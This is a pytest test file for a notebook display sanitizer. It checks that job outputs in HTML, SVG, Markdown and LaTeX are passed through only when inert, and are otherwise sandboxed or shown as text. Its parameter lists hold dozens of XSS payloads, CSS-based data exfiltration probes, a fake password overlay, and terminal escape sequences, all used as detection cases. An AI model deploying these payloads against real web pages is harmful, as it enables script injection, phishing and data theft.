"""What of a job's displays reaches a page: nothing that could run there."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from mlmagics.display.markup import is_inert, is_inert_latex, is_inert_markdown
from mlmagics.display.mime import MAX_CHARS, shown_bundle, shown_metadata

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(20)).decode()
TABLE = (
    '<style type="text/css">\n#T_1 td > b {color: red;}\n</style>\n<table id="T_1" border="1" class="dataframe">\n'
    '<thead><tr style="text-align: right;"><th></th><th>a &lt; b</th></tr></thead>\n'
    '<tbody><tr><td id="T_1_r0" class="data row0 col0" >1 < 2 \\ 3</td></tr></tbody></table><p>2 rows \u00d7 1 columns</p>'
)
SVG = (
    '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n'
    '  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="9pt" viewBox="0 0 9 9" xmlns="http://www.w3.org/2000/svg">'
    '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work><dc:date>2026</dc:date>'
    '</cc:Work></rdf:RDF></metadata><!-- axes --><defs><path id="m" d="M 0 0"/></defs>'
    '<use xlink:href="#m" x="1"/><image xlink:href="data:image/png;base64,AAAA" width="3"/></svg>'
)


@pytest.mark.parametrize(
    "markup",
    [
        "",
        "no markup, 1 < 2 & 3",
        TABLE,
        SVG,
        "<details open><summary>more</summary><a href='https://x.org/?a=1&amp;b=2' target=_blank>x</a></details>",
        '<img src="data:image/png;base64,AAAA" width=3>',
        '<audio controls="controls"><source src="data:audio/wav;base64,AAAA" type="audio/wav" /></audio>',
        "<input class='xr-section' type='checkbox' checked disabled><label for='s'>Dimensions</label>",
        "<pre style=\"white-space:pre;font-family:Menlo,'DejaVu Sans Mono',monospace\">x</pre>",
        '<a href="#top">up</a> <a href="mailto:a@b.org">mail</a>',
        "<style scoped>table { table-layout: fixed; fill: url('#a'); }</style><td>C:\\fixed</td>",
    ],
)
def test_markup_that_cannot_run_is_inert(markup: str) -> None:
    assert is_inert(markup)
    assert shown_bundle({"text/html": markup}, foreign=False) == {"text/html": markup}


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//x></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=x oNeRrOr=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src='x'onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><animate attributeName=href to=javascript:alert(1)></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<svg><foreignObject><body onload=x></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x>'/></svg>",
        "<svg><use xlink:href='//x.org/#a'/></svg>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\tscript:alert(1)'>x</a>",
        "<a href='&#106;avascript&colon;alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<img src='data:text/html,x'>",
        "<iframe src=//x></iframe>",
        "<iframe srcdoc='x'></iframe>",
        "<object data=x></object>",
        "<embed src=x>",
        "<form action=//x><input type=submit></form>",
        "<input type=text autofocus onfocus=x>",
        "<button formaction=javascript:x>",
        "<meta http-equiv=refresh content=0>",
        "<base href=//x>",
        "<link rel=stylesheet href=//x>",
        "<template><script>x</script></template>",
        "<math><mtext><table><mglyph><style><img src=x onerror=x></style></math>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<style><a title='</style><img src=x onerror=alert(1)>'></style>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>-->",
        "<!--[if IE]><script>x</script><![endif]-->",
        "<![CDATA[<script>x</script>]]>",
        "<?php <script>x</script> ?>",
        "<!DOCTYPE svg [<!ENTITY x '<script>y</script>'>]>",
        "<p title='<script>x</script>'>",
        '<a title="x" title=">" href=x>',
        "<scr\x00ipt>x",
        "<p",
        "<p title='x",
        "<div data-commandlinker-command='filebrowser:open-path'>click</div>",
        "<noscript><p title='</noscript><img src=x onerror=x>'></noscript>",
        "<xmp><p></xmp>",
        "<rdf:script>alert(1)</rdf:script>",
        "<custom-element>",
        "<p contenteditable>",
        # what Python takes for space, and HTML for part of a name or value
        "<a title=x\xa0y=' onmouseover=alert(1) '>x</a>",
        "<img title=x\x0by=' src=1 onerror=alert(1) '>",
        "<img\u2003title=' src=1 onerror=alert(1) '>",
        # the page's own document.cookie would be this picture
        "<img name=cookie src=x>",
        "<image name=cookie src=x>",
        # over the whole page
        "<div style='position: fixed; inset: 0'>Password:</div>",
        "<div style='position:/**/FIXED'>x</div>",
        "<div style='position:f&#105;xed'>x</div>",
        "<div style='position:f\\69xed'>x</div>",
        "<div style='--x:fixed;position:var(--x)'>x</div>",
        "<style>body::before { position: fixed; content: 'x' }</style>",
        # tells another host what the page holds
        "<style>@import '//x.org/a.css';</style>",
        "<style>input[value^=a] { background: url(//x.org/a) }</style>",
    ],
)
def test_markup_that_might_run_is_shut_into_a_frame(markup: str) -> None:
    assert not is_inert(markup)
    shown = shown_bundle({"text/html": markup}, foreign=False)["text/html"]
    assert shown.startswith('<iframe sandbox="allow-scripts" ')
    inside = shown.partition('srcdoc="')[2].removesuffix('"></iframe>')
    assert "<" not in inside
    assert '"' not in inside


def test_huge_markup_is_judged_in_no_time() -> None:
    assert not is_inert("<a" + " x" * 200_000)
    assert not is_inert("<a x=" + " " * 200_000 + "'")
    assert is_inert("<td>1</td>" * 50_000)


def test_own_job_is_shown_as_in_a_local_cell_but_without_scripts_and_widgets() -> None:
    data = {
        "text/html": TABLE,
        "text/plain": "x",
        "text/markdown": "**b** [link](https://x.org) $a < b$",
        "text/latex": r"$\displaystyle \frac{a}{b}$",
        "image/svg+xml": SVG,
        "image/png": PNG,
        "application/json": {"a": [1, None]},
        "application/vnd.plotly.v1+json": {"data": []},
        "application/vnd.vegalite.v5+json": {"mark": "bar"},
        "application/geo+json": {"type": "Point"},
    }
    dropped = {
        "application/javascript": "alert(1)",
        "text/javascript": "alert(1)",
        "application/x-javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "a"},
        "application/vnd.mlmagics.job+json": {"job_id": 1},
        "application/vnd.bokehjs_exec.v0+json": "",
        "application/pdf": "JVBERi0=",
        "text/html; charset=utf-8": "<script>",
        "TEXT/HTML": "<script>",
    }
    assert shown_bundle({**data, **dropped}, foreign=False) == data


def test_foreign_job_has_no_markup_of_its_own_in_the_page() -> None:
    bundle = shown_bundle({"text/html": TABLE, "text/plain": "x"}, foreign=True)
    assert bundle["text/html"].startswith('<iframe sandbox="allow-scripts" ')
    svg = shown_bundle({"image/svg+xml": "<svg onload='x()'/>"}, foreign=True)
    assert svg["text/html"].startswith("<img ")
    assert "onload" not in svg["text/html"]
    assert "image/svg+xml" not in svg
    for mime, content in (
        ("text/markdown", "**b**"),
        ("text/latex", "$x$"),
        ("application/vnd.plotly.v1+json", {"data": []}),
        ("application/vnd.vega.v5+json", {}),
        ("application/geo+json", {}),
    ):
        assert shown_bundle({mime: content, "image/png": PNG}, foreign=True) == {"image/png": PNG}
        assert set(shown_bundle({mime: content}, foreign=True)) == {"text/plain"}
    assert shown_bundle({"text/markdown": "**b**\x1b]0;x\x07"}, foreign=True) == {"text/plain": "**b**"}


def test_svg_that_might_run_becomes_an_image_beside_which_nothing_else_is_html() -> None:
    bundle = shown_bundle({"image/svg+xml": "<svg><script>x</script></svg>"}, foreign=False)
    assert bundle["text/html"].startswith("<img ")
    assert shown_bundle({"image/svg+xml": "<svg><script/></svg>", "image/png": PNG}, foreign=False) == {
        "image/png": PNG
    }


@pytest.mark.parametrize(
    "text",
    [
        "<script>x</script>",
        "<img src=x onerror=y>",
        "[x](javascript:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](JaVa\nScript:alert(1))",
        r"[x](javascript\:alert(1))",
        "[x](&#x6a;avascript:alert(1))",
        "[x]: data:text/html,x",
        "<https://x.org>",
    ],
)
def test_markdown_that_might_run_is_shown_as_text(text: str) -> None:
    assert not is_inert_markdown(text)
    assert shown_bundle({"text/markdown": text}, foreign=False) == {"text/plain": text}


@pytest.mark.parametrize(
    "text", [r"\href{javascript:x}{y}", r"\require{x}", r"\style{a}{b}", r"\htmlData{a=b}{c}"]
)
def test_latex_that_loads_or_links_is_shown_as_text(text: str) -> None:
    assert not is_inert_latex(text)
    assert shown_bundle({"text/latex": text}, foreign=False) == {"text/plain": text}


def test_nothing_that_can_be_shown_is_said() -> None:
    assert shown_bundle({"application/javascript": "x"}, foreign=False) == {
        "text/plain": "<not shown here: application/javascript>"
    }
    assert shown_bundle({}, foreign=False) == {"text/plain": "<not shown here: an empty display>"}
    names = shown_bundle({f"x/{n}\x1b]0;t\x07\u202e": 1 for n in range(50)}, foreign=False)["text/plain"]
    assert names.startswith("<not shown here: x/0, x/1, ")
    assert names.endswith(" and 45 more>")


@pytest.mark.parametrize(
    "content", ["*", "A", "AAAA!", "AAA\n!", '"><script>x</script>', "", None, 3, {"a": 1}]
)
def test_broken_pictures_are_told_and_not_shown(content: Any) -> None:
    bundle = shown_bundle({"image/png": content, "text/plain": "<Figure>"}, foreign=False)
    assert set(bundle) == {"text/plain"}
    assert bundle["text/plain"].startswith("<Figure>\n<not shown: image/png: ")


def test_a_picture_of_ten_megabytes_is_told_and_not_shown() -> None:
    bundle = shown_bundle({"image/png": "AAAA" * (10 * 2**18), "text/plain": "<Figure>"}, foreign=False)
    assert bundle["text/plain"].startswith("<Figure>\n<not shown: image/png: 10 MiB is too large for a cell")
    json = shown_bundle({"application/json": ["x" * MAX_CHARS]}, foreign=False)
    assert set(json) == {"text/plain"}
    # with another form to show, nothing needs to be told
    assert shown_bundle({"image/png": "AAAA" * MAX_CHARS, "text/html": "<b>x</b>"}, foreign=False) == {
        "text/html": "<b>x</b>"
    }


def test_data_of_other_types_than_expected_is_shown_somehow() -> None:
    assert shown_bundle({"text/plain": ["a\n", "b", 3]}, foreign=False) == {"text/plain": "a\nb"}
    assert shown_bundle({"text/html": 5}, foreign=False) == {"text/html": "5"}
    assert shown_bundle({"text/plain": None}, foreign=False) == {"text/plain": "None"}
    assert shown_bundle({"text/plain": "a\x1b]52;c;x\x07\x1b[31mb\x1b[0m\x00"}, foreign=False) == {
        "text/plain": "a\x1b[31mb\x1b[0m"
    }


def test_metadata_is_sizes_and_grounds_only() -> None:
    bundle = {"image/png": PNG, "text/html": "x", "application/json": {}, "text/plain": "x"}
    told: dict[str, Any] = {
        "image/png": {
            "width": 640,
            "height": 480.5,
            "needs_background": "light",
            "unconfined": True,
            "onload": "x",
        },
        "text/html": {"isolated": True, "trusted": True},
        "application/json": {"expanded": True, "root": "<img>"},
        "text/plain": "x",
        "trusted": True,
        "image/jpeg": {"width": 1},
    }
    assert shown_metadata(bundle, told) == {
        "image/png": {"width": 640, "height": 480.5, "needs_background": "light", "unconfined": True},
        "application/json": {"expanded": True},
    }
    evil: dict[str, Any] = {
        "width": "1;x",
        "height": 1e300,
        "needs_background": '"><script>',
        "unconfined": "yes",
    }
    assert shown_metadata(bundle, {"image/png": evil}) == {}
    assert shown_metadata(bundle, {"image/png": {"width": float("nan"), "height": -1}}) == {}


def test_a_bundle_never_shares_the_events_dictionary() -> None:
    data = {"text/plain": "x"}
    shown_bundle(data, foreign=False)["text/html"] = "y"
    assert data == {"text/plain": "x"}
